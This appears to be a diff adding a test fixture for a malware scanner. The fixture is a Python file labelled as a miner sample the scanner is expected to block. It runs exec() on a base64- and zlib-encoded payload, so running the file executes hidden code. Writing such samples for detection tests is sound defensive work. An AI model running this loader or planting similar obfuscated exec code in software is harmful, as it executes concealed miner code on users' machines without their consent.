@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/config_json.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxNjzFvAyEMhXd+hUWXRL2QROl0UveOHSp1iDIQjgaaAyMblEhR/nvhLlXLgMx75nv2E3ySz5ZBQ/DREhiMX/5USGePEXQcgLOmzJCdfbT4OD2O2pxPhCUOSviQkDJ8M8bfmssxERrLLMQMhVe4CahHJsSRZQ/7myw01kJyroklPDOP/XpNNRfDNWCNQ6VLRhW9sU6zUwZD//Kykx3Iwpba593beauUuiCdq1CNPNE/qNj7oZsjTSpVusmgr6vsyOqBV87HXMXtZnPvxF1cfHaAycaFnAdWbZ/Gu8glaAZXxxptPwGbpYYS0mLu7R7uUvwtrt4n2l5GdCU1kFpfA/lTK1em3f+DDssf8RqC5Q==')))
